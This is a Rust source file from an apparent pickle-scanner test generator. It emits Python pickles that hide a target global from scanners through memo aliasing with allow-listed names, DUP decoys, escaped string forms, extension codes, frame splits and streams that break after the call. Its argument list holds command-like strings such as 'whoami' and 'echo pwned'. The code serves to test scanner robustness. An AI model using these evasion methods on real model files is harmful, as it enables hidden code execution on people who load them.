//! The ops that hide a target: one small function per technique, emitted through the pickle
//! generator's [`Gen`] so that its model of the stack and memo follows them, and so that
//! its filler (benign ops on a stack of their own) can run between them.

use super::BypassConfig;
use crate::config::Config;
use crate::pickle::args::{self, chance, Arg};
use crate::pickle::model::{Item, Kind, Slot};
use crate::pickle::Gen;
use arbitrary::{Result, Unstructured};
use brine_codec::Opcode as O;
use std::collections::BTreeSet;

/// What puts the target's global on the stack.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Producer {
    /// GLOBAL.
    Global,
    /// Two strs and STACK_GLOBAL.
    StackGlobal,
    /// EXT1/2/4.
    Ext,
    /// INST (which is its own consumer too).
    Inst,
}

/// What is done with the global.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Consumer {
    /// Nothing: it is a value of the pickle.
    Bare,
    /// Called by REDUCE.
    Reduce,
    /// Instantiated by OBJ.
    Obj,
    /// Instantiated by INST.
    Inst,
}

/// Where a STACK_GLOBAL operand comes from.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Source {
    /// Pushed right there.
    Fresh,
    /// Stored in the memo earlier, fetched there ([`Technique::MemoOperands`](super::Technique::MemoOperands)).
    Memo,
    /// Fetched from a memo slot that held a benign str first ([`Technique::MemoAlias`](super::Technique::MemoAlias)).
    Alias,
}

/// How DUP makes the module operand ([`Technique::DupOperands`](super::Technique::DupOperands)).
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Dup {
    /// `module DUP decoy STACK_GLOBAL POP name STACK_GLOBAL`: the copy resolves a decoy.
    DecoyFirst,
    /// `module DUP name STACK_GLOBAL`: the copy resolves the target, the original stays
    /// below (or is dropped through the memo when only the global may be left).
    CopyToTarget,
}

/// How one file is built.
pub(super) struct Plan {
    pub producer: Producer,
    pub consumer: Consumer,
    /// STACK_GLOBAL's operands.
    pub module: Source,
    pub name: Source,
    pub dup: Option<Dup>,
    pub str_forms: bool,
    pub frame_split: bool,
    pub payload_error: bool,
    pub after_stop: bool,
    /// A control: nothing but the target's ops in the body.
    pub plain: bool,
}

/// Strs a memo slot holds before [`Technique::MemoAlias`](super::Technique::MemoAlias) overwrites it: names an
/// allow-list would pass.
const BENIGN: &[&str] = &[
    "collections",
    "OrderedDict",
    "torch._utils",
    "_rebuild_tensor_v2",
    "numpy.core.multiarray",
    "_reconstruct",
];

/// Names [`Dup::DecoyFirst`] resolves in the target's module: attributes every module has.
const DECOYS: &[&str] = &[
    "__name__",
    "__doc__",
    "__spec__",
    "__loader__",
    "__package__",
];

/// Arguments of the calls: inert strs (nothing runs them).
const PAYLOADS: &[&str] = &["id", "echo pwned", "uname -a", "print(1)", "whoami", "1+1"];

/// The emitter: the generator, and what the hiding holds and has marked.
pub(super) struct Hider<'c> {
    pub g: Gen<'c>,
    /// The filler's config, and the one it runs with while memo slots are held.
    free: &'c Config,
    held: &'c Config,
    /// Memo slots the hiding will still fetch: the filler must not overwrite them.
    pending: BTreeSet<u32>,
    /// Op indices where a frame may begin to split the hiding ([`Technique::FrameSplit`](super::Technique::FrameSplit)).
    pub cuts: Vec<usize>,
    /// Op indices where a frame may end inside the op: the ones naming the target.
    pub key_ops: Vec<usize>,
    pub extensions: Vec<(String, String, i64)>,
    plan: &'c Plan,
    max_filler_ops: usize,
    /// No filler once `g.out` is this long.
    size_limit: usize,
}

impl<'c> Hider<'c> {
    pub fn new(
        g: Gen<'c>,
        free: &'c Config,
        held: &'c Config,
        config: &BypassConfig,
        plan: &'c Plan,
        before: usize,
    ) -> Self {
        Hider {
            g,
            free,
            held,
            pending: BTreeSet::new(),
            cuts: Vec::new(),
            key_ops: Vec::new(),
            extensions: Vec::new(),
            plan,
            max_filler_ops: config.max_filler_ops,
            size_limit: config.max_size.saturating_sub(before),
        }
    }

    /// The whole pickle carrying `target`, in `g.out`: PROTO, the body, STOP. Returns the
    /// index of the body's first op (what frames may cover) and, for
    /// [`Technique::PayloadThenError`](super::Technique::PayloadThenError), the bytes that break the stream (in place of STOP,
    /// outside any frame).
    pub fn pickle(
        &mut self,
        u: &mut Unstructured,
        target: &(String, String),
    ) -> Result<(usize, Vec<u8>)> {
        let p = self.g.protocol;
        if p >= 2 {
            self.emit(O::PROTO, Arg::Int(p as i64));
        }
        let body = self.g.starts.len();
        // The values around the target: in a container, or loose on the stack (STOP takes
        // the top one, CPython does not mind the rest).
        let container = !self.plan.plain && chance(u, 1, 3)?;
        let list = container && self.has(O::APPENDS) && u.arbitrary()?;
        if list {
            self.emit(O::EMPTY_LIST, Arg::None);
            self.g.m.push(Item::atom(Kind::List));
        }
        if container {
            self.mark();
        }
        if !self.plan.plain {
            for _ in 0..u.int_in_range(0..=2)? {
                if self.filler(u)? && chance(u, 1, 2)? {
                    self.pop();
                }
            }
        }
        self.consume(u, target)?;
        if !self.plan.plain && chance(u, 1, 2)? && self.filler(u)? && u.arbitrary()? {
            self.pop();
        }
        if self.plan.payload_error {
            let garbage = self.garbage(u)?;
            return Ok((body, garbage));
        }
        if list {
            self.emit(O::APPENDS, Arg::None);
            self.g.m.pop_mark();
        } else if container {
            let (op, kind) = if u.arbitrary()? {
                (O::LIST, Kind::List)
            } else {
                (O::TUPLE, Kind::Tuple)
            };
            self.emit(op, Arg::None);
            self.collapse_mark(kind);
        }
        self.emit(O::STOP, Arg::None);
        Ok((body, Vec::new()))
    }

    // ---- emitting, and keeping the model ----

    /// Whether `op` exists in the pickle's protocol.
    fn has(&self, op: O) -> bool {
        op.info().is_some_and(|i| i.proto <= self.g.protocol)
    }

    fn emit(&mut self, op: O, arg: Arg) {
        debug_assert!(self.has(op), "{op:?} in protocol {}", self.g.protocol);
        self.g.op(op, arg);
    }

    /// Marks the next op as a place a frame may begin.
    fn cut_here(&mut self) {
        self.cuts.push(self.g.starts.len());
    }

    /// Marks the next op as one naming the target.
    fn key_here(&mut self) {
        self.key_ops.push(self.g.starts.len());
    }

    fn mark(&mut self) {
        self.emit(O::MARK, Arg::None);
        self.g.m.stack.push(Slot::Mark);
    }

    fn pop(&mut self) {
        self.emit(O::POP, Arg::None);
        self.g.m.stack.pop();
    }

    /// The top `n` items become one new `kind` (TUPLEn, REDUCE, STACK_GLOBAL...).
    fn collapse_top(&mut self, n: usize, kind: Kind) {
        let ids = self.g.m.pop_n(n);
        let it = self.g.m.container(kind, &ids);
        self.g.m.push(it);
    }

    /// The items above the topmost mark become one new `kind` (TUPLE, OBJ, INST).
    fn collapse_mark(&mut self, kind: Kind) {
        let ids = self.g.m.pop_mark();
        let it = self.g.m.container(kind, &ids);
        self.g.m.push(it);
    }

    /// Benign ops pushing one value (false, and nothing, past the size limit).
    fn filler(&mut self, u: &mut Unstructured) -> Result<bool> {
        if self.plan.plain || self.g.out.len() >= self.size_limit || self.max_filler_ops == 0 {
            return Ok(false);
        }
        self.g.set_config(if self.pending.is_empty() {
            self.free
        } else {
            self.held
        });
        let steps = u.int_in_range(1..=self.max_filler_ops)?;
        self.g.filler(u, steps)?;
        Ok(true)
    }

    /// Sometimes filler and POP: nothing left on the stack, nothing below touched.
    fn noise(&mut self, u: &mut Unstructured) -> Result<()> {
        if !self.plan.plain && chance(u, 1, 3)? && self.filler(u)? {
            self.pop();
        }
        Ok(())
    }

    /// Pushes the str `s`: as CPython's pickler writes strs, or (`odd`) in a form it never
    /// writes for names ([`Technique::StrForms`](super::Technique::StrForms)).
    fn push_str(&mut self, u: &mut Unstructured, s: &str, odd: bool) -> Result<()> {
        #[derive(Clone, Copy, PartialEq)]
        enum F {
            Op(O),
            EscapedString,
            EscapedUnicode,
        }
        let forms: &[F] = if odd {
            &[
                F::Op(O::STRING),
                F::EscapedString,
                F::EscapedString,
                F::Op(O::UNICODE),
                F::EscapedUnicode,
                F::EscapedUnicode,
                F::Op(O::BINSTRING),
                F::Op(O::SHORT_BINSTRING),
                F::Op(O::SHORT_BINSTRING),
            ]
        } else {
            &[
                F::Op(O::SHORT_BINUNICODE),
                F::Op(O::SHORT_BINUNICODE),
                F::Op(O::SHORT_BINUNICODE),
                F::Op(O::BINUNICODE),
                F::Op(O::BINUNICODE8),
                F::Op(O::UNICODE),
            ]
        };
        let op_of = |f: F| match f {
            F::Op(op) => op,
            F::EscapedString => O::STRING,
            F::EscapedUnicode => O::UNICODE,
        };
        let ok: Vec<F> = forms
            .iter()
            .copied()
            .filter(|&f| self.has(op_of(f)))
            .collect();
        // Protocol 0 has only the line forms; the pickler's one there is UNICODE.
        let ok = if !odd && self.g.protocol >= 1 {
            ok.into_iter().filter(|&f| f != F::Op(O::UNICODE)).collect()
        } else {
            ok
        };
        let f = *u.choose(&ok)?;
        let data = match f {
            F::Op(O::STRING) => quote(u, s.as_bytes().to_vec())?,
            F::EscapedString => {
                let e = escaped(u, s, false)?;
                quote(u, e)?
            }
            F::EscapedUnicode => escaped(u, s, true)?,
            _ => s.as_bytes().to_vec(),
        };
        self.emit(op_of(f), Arg::Data(&data));
        self.g.m.push(Item::str(!s.is_empty()));
        Ok(())
    }

    // ---- the memo ----

    /// Stores the top item in a memo slot the hiding does not hold, and holds it: usually
    /// the next one, sometimes a sparse one or one filler filled.
    fn put(&mut self, u: &mut Unstructured) -> Result<u32> {
        let memo = &self.g.m.memo;
        let free = |i: &u32| !self.pending.contains(i);
        let n = memo.len() as u32;
        let next = (n..).find(|i| !memo.contains_key(i)).unwrap();
        let old: Vec<u32> = memo.keys().copied().filter(free).collect();
        let slot = match u.int_in_range(0..=5u8)? {
            0 if !old.is_empty() => *u.choose(&old)?,
            1 => {
                let s = next + u.int_in_range(1..=300)?;
                if memo.contains_key(&s) {
                    next
                } else {
                    s
                }
            }
            // MEMOIZE's slot, when not held.
            _ if free(&n) => n,
            _ => next,
        };
        self.put_at(u, slot, true)?;
        Ok(slot)
    }

    /// Stores the top item at `slot` and holds it: BINPUT, LONG_BINPUT, PUT, or MEMOIZE
    /// (`memoize`) when that is the slot it writes.
    fn put_at(&mut self, u: &mut Unstructured, slot: u32, memoize: bool) -> Result<()> {
        let mut ops = vec![O::PUT];
        if self.has(O::LONG_BINPUT) {
            ops.push(O::LONG_BINPUT);
            if slot <= 255 {
                ops.extend([O::BINPUT, O::BINPUT]);
            }
        }
        if memoize && self.has(O::MEMOIZE) && slot as usize == self.g.m.memo.len() {
            ops.extend([O::MEMOIZE; 3]);
        }
        match *u.choose(&ops)? {
            O::PUT => {
                let line = args::memo_line(u, slot)?;
                self.emit(O::PUT, Arg::Data(line.as_bytes()));
            }
            O::MEMOIZE => self.emit(O::MEMOIZE, Arg::None),
            op => self.emit(op, Arg::Int(slot as i64)),
        }
        let id = self.g.m.top(1).expect("an item to store")[0];
        self.g.m.memo.insert(slot, id);
        self.pending.insert(slot);
        Ok(())
    }

    /// Pushes what `slot` holds (GET, BINGET, LONG_BINGET) and lets the slot go.
    fn get(&mut self, u: &mut Unstructured, slot: u32) -> Result<()> {
        let mut ops = vec![O::GET];
        if self.has(O::LONG_BINGET) {
            ops.push(O::LONG_BINGET);
            if slot <= 255 {
                ops.extend([O::BINGET, O::BINGET]);
            }
        }
        match *u.choose(&ops)? {
            O::GET => {
                let line = args::memo_line(u, slot)?;
                self.emit(O::GET, Arg::Data(line.as_bytes()));
            }
            op => self.emit(op, Arg::Int(slot as i64)),
        }
        self.g.m.stack.push(Slot::Val(self.g.m.memo[&slot]));
        self.pending.remove(&slot);
        Ok(())
    }

    /// Drops the top item: POP, or POP_MARK when [`Hider::open_drop`] put a MARK below it.
    fn drop_top(&mut self, marked: bool) {
        if marked {
            self.emit(O::POP_MARK, Arg::None);
            self.g.m.pop_mark();
        } else {
            self.pop();
        }
    }

    /// Whether to store the next str inside MARK ... POP_MARK rather than POP it after.
    fn open_drop(&mut self, u: &mut Unstructured) -> Result<bool> {
        let marked = self.has(O::POP_MARK) && chance(u, 1, 3)?;
        if marked {
            self.mark();
        }
        Ok(marked)
    }

    /// [`Technique::MemoOperands`](super::Technique::MemoOperands): `s` pushed, stored, dropped; returns the slot, held.
    fn stash(&mut self, u: &mut Unstructured, s: &str) -> Result<u32> {
        let marked = self.open_drop(u)?;
        self.key_here();
        self.push_str(u, s, self.plan.str_forms)?;
        let slot = self.put(u)?;
        self.drop_top(marked);
        Ok(slot)
    }

    /// [`Technique::MemoAlias`](super::Technique::MemoAlias): a slot stores a benign str, then `s` over it before anything
    /// fetches it; returns the slot, held. Either the same index PUT twice, or MEMOIZE
    /// reaching a slot already filled: it writes index `len(memo)`, so with a gap below
    /// (slots 0 and 2 filled, say) that index is a filled one.
    fn alias(&mut self, u: &mut Unstructured, s: &str) -> Result<u32> {
        let benign = *u.choose(BENIGN)?;
        let n = self.g.m.memo.len() as u32;
        let memoize = self.has(O::MEMOIZE) && chance(u, 1, 2)?;
        let filled = |i: u32| self.g.m.memo.contains_key(&i);
        // The benign str goes to `first` (by a PUT that is not MEMOIZE); `s` over it.
        let (first, by_memoize) = if memoize && filled(n) && !self.pending.contains(&n) {
            // Already a gap: MEMOIZE writes slot n, which is filled.
            (Some(n), true)
        } else if memoize && !filled(n) && !filled(n + 1) {
            // Make one: slot n + 1 filled makes len(memo) n + 1.
            (Some(n + 1), true)
        } else {
            (None, false)
        };
        let marked = self.open_drop(u)?;
        self.push_str(u, benign, false)?;
        let slot = match first {
            Some(slot) => {
                self.put_at(u, slot, false)?;
                slot
            }
            None => self.put(u)?,
        };
        self.drop_top(marked);
        self.noise(u)?;
        let marked = self.open_drop(u)?;
        self.key_here();
        self.push_str(u, s, self.plan.str_forms)?;
        if by_memoize {
            debug_assert_eq!(self.g.m.memo.len() as u32, slot);
            self.emit(O::MEMOIZE, Arg::None);
            let id = self.g.m.top(1).unwrap()[0];
            self.g.m.memo.insert(slot, id);
        } else {
            self.put_at(u, slot, false)?;
        }
        self.drop_top(marked);
        Ok(slot)
    }

    // ---- producers ----

    /// Puts the target's global on the stack. With `single`, nothing else is left (OBJ needs
    /// its class right above its mark).
    fn produce(&mut self, u: &mut Unstructured, t: &(String, String), single: bool) -> Result<()> {
        match self.plan.producer {
            Producer::Global => self.global(t),
            Producer::StackGlobal if self.plan.plain => self.pickler_stack_global(t),
            Producer::StackGlobal => self.stack_global(u, t, single)?,
            Producer::Ext => self.ext(u, t)?,
            Producer::Inst => unreachable!("INST is its own consumer"),
        }
        Ok(())
    }

    /// `GLOBAL module\nname\n`.
    fn global(&mut self, t: &(String, String)) {
        self.cut_here();
        self.key_here();
        self.emit(O::GLOBAL, Arg::Lines(t.0.as_bytes(), t.1.as_bytes()));
        self.g.m.push(Item::atom(Kind::Global));
    }

    /// [`Technique::StackGlobal`](super::Technique::StackGlobal)'s control, as the pickler writes it.
    fn pickler_stack_global(&mut self, t: &(String, String)) {
        for s in [&t.0, &t.1] {
            self.key_here();
            self.emit(O::SHORT_BINUNICODE, Arg::Data(s.as_bytes()));
            self.g.m.push(Item::str(true));
            self.memoize();
        }
        self.emit(O::STACK_GLOBAL, Arg::None);
        self.collapse_top(2, Kind::Global);
        self.memoize();
    }

    /// MEMOIZE, as the pickler does after each object, unless that would overwrite a held
    /// slot.
    fn memoize(&mut self) {
        let n = self.g.m.memo.len() as u32;
        if !self.pending.contains(&n) {
            self.emit(O::MEMOIZE, Arg::None);
            let id = self.g.m.top(1).unwrap()[0];
            self.g.m.memo.insert(n, id);
        }
    }

    /// STACK_GLOBAL with the plan's operand sources ([`Technique::MemoOperands`](super::Technique::MemoOperands),
    /// [`Technique::MemoAlias`](super::Technique::MemoAlias), [`Technique::DupOperands`](super::Technique::DupOperands), [`Technique::StrForms`](super::Technique::StrForms)).
    fn stack_global(
        &mut self,
        u: &mut Unstructured,
        t: &(String, String),
        single: bool,
    ) -> Result<()> {
        // Store the operands that come from the memo, in either order.
        let mut held = [None, None];
        let order = if u.arbitrary()? { [0, 1] } else { [1, 0] };
        for i in order {
            let (s, src) = if i == 0 {
                (&t.0, self.plan.module)
            } else {
                (&t.1, self.plan.name)
            };
            held[i] = match src {
                Source::Fresh => None,
                Source::Memo => Some(self.stash(u, s)?),
                Source::Alias => Some(self.alias(u, s)?),
            };
            self.noise(u)?;
        }
        self.operand(u, &t.0, held[0])?;
        match self.plan.dup {
            None => {}
            Some(Dup::DecoyFirst) => {
                self.emit(O::DUP, Arg::None);
                let id = self.g.m.top(1).unwrap()[0];
                self.g.m.stack.push(Slot::Val(id));
                let decoy = *u.choose(DECOYS)?;
                self.push_str(u, decoy, false)?;
                self.emit(O::STACK_GLOBAL, Arg::None);
                self.collapse_top(2, Kind::Global);
                self.pop();
            }
            Some(Dup::CopyToTarget) => {
                self.emit(O::DUP, Arg::None);
                let id = self.g.m.top(1).unwrap()[0];
                self.g.m.stack.push(Slot::Val(id));
            }
        }
        self.noise(u)?;
        self.operand(u, &t.1, held[1])?;
        self.noise(u)?;
        self.cut_here();
        self.emit(O::STACK_GLOBAL, Arg::None);
        self.collapse_top(2, Kind::Global);
        if self.plan.dup == Some(Dup::CopyToTarget) && (single || chance(u, 1, 2)?) {
            // Drop the original module str below the global, through the memo.
            let slot = self.put(u)?;
            self.pop();
            self.pop();
            self.get(u, slot)?;
        }
        Ok(())
    }

    /// Pushes one STACK_GLOBAL operand: fresh, or from the memo slot it was stored in.
    fn operand(&mut self, u: &mut Unstructured, s: &str, held: Option<u32>) -> Result<()> {
        self.cut_here();
        match held {
            Some(slot) => self.get(u, slot),
            None => {
                self.key_here();
                self.push_str(u, s, self.plan.str_forms)
            }
        }
    }

    /// [`Technique::Ext`](super::Technique::Ext): EXT1, EXT2 or EXT4 of a new code for the target.
    fn ext(&mut self, u: &mut Unstructured, t: &(String, String)) -> Result<()> {
        let (op, code) = match u.int_in_range(0..=2u8)? {
            0 => (O::EXT1, u.int_in_range(1..=0xffi64)?),
            1 => (O::EXT2, u.int_in_range(1..=0xffffi64)?),
            _ => (O::EXT4, u.int_in_range(1..=0x7fff_ffffi64)?),
        };
        self.cut_here();
        self.key_here();
        self.emit(op, Arg::Int(code));
        self.g.m.push(Item::atom(Kind::Global));
        self.extensions.push((t.0.clone(), t.1.clone(), code));
        Ok(())
    }

    // ---- consumers ----

    /// The target's global, and what is done with it.
    fn consume(&mut self, u: &mut Unstructured, t: &(String, String)) -> Result<()> {
        match self.plan.consumer {
            Consumer::Bare => self.produce(u, t, false),
            Consumer::Reduce => self.reduce(u, t),
            Consumer::Obj => self.obj(u, t),
            Consumer::Inst => self.inst(u, t),
        }
    }

    /// The global, an argument tuple, REDUCE.
    fn reduce(&mut self, u: &mut Unstructured, t: &(String, String)) -> Result<()> {
        self.produce(u, t, false)?;
        self.noise(u)?;
        let tuple_n = self.has(O::TUPLE1) && !chance(u, 1, 3)?;
        if tuple_n {
            let n = self.args(u, 3)?;
            let op = match n {
                0 => O::EMPTY_TUPLE,
                1 => O::TUPLE1,
                2 => O::TUPLE2,
                _ => O::TUPLE3,
            };
            self.emit(op, Arg::None);
            self.collapse_top(n, Kind::Tuple);
        } else {
            self.mark();
            self.args(u, 3)?;
            self.emit(O::TUPLE, Arg::None);
            self.collapse_mark(Kind::Tuple);
        }
        self.cut_here();
        self.emit(O::REDUCE, Arg::None);
        self.collapse_top(2, Kind::Object);
        Ok(())
    }

    /// [`Technique::Obj`](super::Technique::Obj): MARK, the global, arguments, OBJ.
    fn obj(&mut self, u: &mut Unstructured, t: &(String, String)) -> Result<()> {
        self.mark();
        self.noise(u)?;
        self.produce(u, t, true)?;
        self.args(u, 2)?;
        self.cut_here();
        self.emit(O::OBJ, Arg::None);
        self.collapse_mark(Kind::Object);
        Ok(())
    }

    /// [`Technique::Inst`](super::Technique::Inst): MARK, arguments, INST.
    fn inst(&mut self, u: &mut Unstructured, t: &(String, String)) -> Result<()> {
        self.mark();
        self.args(u, 2)?;
        self.cut_here();
        self.key_here();
        self.emit(O::INST, Arg::Lines(t.0.as_bytes(), t.1.as_bytes()));
        self.collapse_mark(Kind::Object);
        Ok(())
    }

    /// Pushes up to `max` call arguments (a payload str or filler); returns how many.
    fn args(&mut self, u: &mut Unstructured, max: usize) -> Result<usize> {
        let n = u.int_in_range(0..=max)?;
        for _ in 0..n {
            if chance(u, 1, 3)? && self.filler(u)? {
                continue;
            }
            let s = *u.choose(PAYLOADS)?;
            self.push_str(u, s, false)?;
        }
        Ok(n)
    }

    // ---- the break ----

    /// [`Technique::PayloadThenError`](super::Technique::PayloadThenError): bytes the unpickler fails on, after the call.
    fn garbage(&mut self, u: &mut Unstructured) -> Result<Vec<u8>> {
        #[derive(Clone, Copy)]
        enum G {
            Eof,
            NoOpcode,
            NoMark,
            NoMemo,
            Underflow,
            Length,
            Unquoted,
        }
        let mut kinds = vec![
            G::Eof,
            G::NoOpcode,
            G::NoMemo,
            G::Underflow,
            G::Length,
            G::Unquoted,
        ];
        if self.has(O::POP_MARK) && self.g.m.marks() == 0 {
            kinds.push(G::NoMark);
        }
        let then_stop = chance(u, 1, 2)?;
        let mut out = Vec::new();
        let emit = |out: &mut Vec<u8>, op: O, arg: Arg| {
            out.push(op.0);
            args::encode(out, op.info().unwrap().arg, arg, None);
        };
        match *u.choose(&kinds)? {
            G::Eof => return Ok(out),
            G::NoOpcode => {
                let bad: Vec<u8> = (0..=255u8).filter(|&b| O(b).info().is_none()).collect();
                out.push(*u.choose(&bad)?);
                out.extend(args::bytes(u, 8)?);
            }
            G::NoMark => emit(&mut out, O::POP_MARK, Arg::None),
            G::NoMemo => {
                let start = u.int_in_range(0..=300u32)?;
                let slot = (start..).find(|i| !self.g.m.memo.contains_key(i)).unwrap();
                if self.has(O::BINGET) && slot <= 255 && u.arbitrary()? {
                    emit(&mut out, O::BINGET, Arg::Int(slot as i64));
                } else {
                    emit(&mut out, O::GET, Arg::Data(slot.to_string().as_bytes()));
                }
            }
            G::Underflow => {
                for _ in 0..=self.g.m.stack.len() {
                    emit(&mut out, O::POP, Arg::None);
                }
            }
            G::Length => {
                let ops: Vec<O> = [
                    O::SHORT_BINUNICODE,
                    O::BINUNICODE,
                    O::SHORT_BINSTRING,
                    O::BINBYTES,
                ]
                .into_iter()
                .filter(|&op| self.has(op))
                .collect();
                let op = match ops.is_empty() {
                    true => O::STRING,
                    false => *u.choose(&ops)?,
                };
                if op == O::STRING {
                    // Protocol 0: a line that never ends.
                    out.extend_from_slice(b"S'");
                    out.extend(args::ascii(u, 8)?.into_iter().filter(|&b| b != b'\n'));
                    return Ok(out);
                }
                let data = b"system";
                let claim = data.len() as i64 + then_stop as i64 + u.int_in_range(1..=100)?;
                out.push(op.0);
                args::encode(
                    &mut out,
                    op.info().unwrap().arg,
                    Arg::Data(data),
                    Some(claim),
                );
            }
            G::Unquoted => emit(&mut out, O::STRING, Arg::Data(b"system")),
        }
        if then_stop {
            out.push(O::STOP.0);
        }
        Ok(out)
    }

    /// [`Technique::FrameSplit`](super::Technique::FrameSplit)'s frame starts (op indices), at least one of them where the
    /// hiding may be split, and sometimes a key op for a frame to end inside.
    pub fn split_points(
        &self,
        u: &mut Unstructured,
        body: usize,
    ) -> Result<(Vec<usize>, Option<usize>)> {
        // A cut at the body's first op splits nothing: frames start there anyway.
        let inner: Vec<usize> = self.cuts.iter().copied().filter(|&c| c > body).collect();
        let mut cuts: Vec<usize> = Vec::new();
        if !inner.is_empty() {
            cuts.push(*u.choose(&inner)?);
        }
        for &c in &inner {
            if chance(u, 1, 2)? {
                cuts.push(c);
            }
        }
        for i in body + 1..self.g.starts.len() {
            if chance(u, 1, 10)? {
                cuts.push(i);
            }
        }
        cuts.sort_unstable();
        cuts.dedup();
        // Without two operands to put apart, the split that matters is inside the op naming
        // the target.
        let inside =
            self.plan.producer != Producer::StackGlobal || inner.is_empty() || chance(u, 1, 3)?;
        let key = if inside && !self.key_ops.is_empty() {
            Some(*u.choose(&self.key_ops)?)
        } else {
            None
        };
        Ok((cuts, key))
    }
}

/// `body` quoted for STRING, with either quote.
fn quote(u: &mut Unstructured, body: Vec<u8>) -> Result<Vec<u8>> {
    let q = if u.arbitrary()? { b'\'' } else { b'"' };
    let mut out = vec![q];
    out.extend(body);
    out.push(q);
    Ok(out)
}

/// `s` with some characters (at least one) escaped: `\xHH` or octal for STRING, `\uXXXX` or
/// `\UXXXXXXXX` for UNICODE.
fn escaped(u: &mut Unstructured, s: &str, unicode: bool) -> Result<Vec<u8>> {
    let mut out = Vec::new();
    let last = s.len().saturating_sub(1);
    let mut any = false;
    for (i, c) in s.bytes().enumerate() {
        if chance(u, 1, 3)? || (!any && i == last) {
            any = true;
            let e = match (unicode, u.int_in_range(0..=2u8)?) {
                (true, 0 | 1) => format!("\\u{c:04x}"),
                (true, _) => format!("\\U{c:08X}"),
                (false, 0) => format!("\\x{c:02x}"),
                (false, 1) => format!("\\x{c:02X}"),
                (false, _) => format!("\\{c:03o}"),
            };
            out.extend_from_slice(e.as_bytes());
        } else {
            out.push(c);
        }
    }
    Ok(out)
}
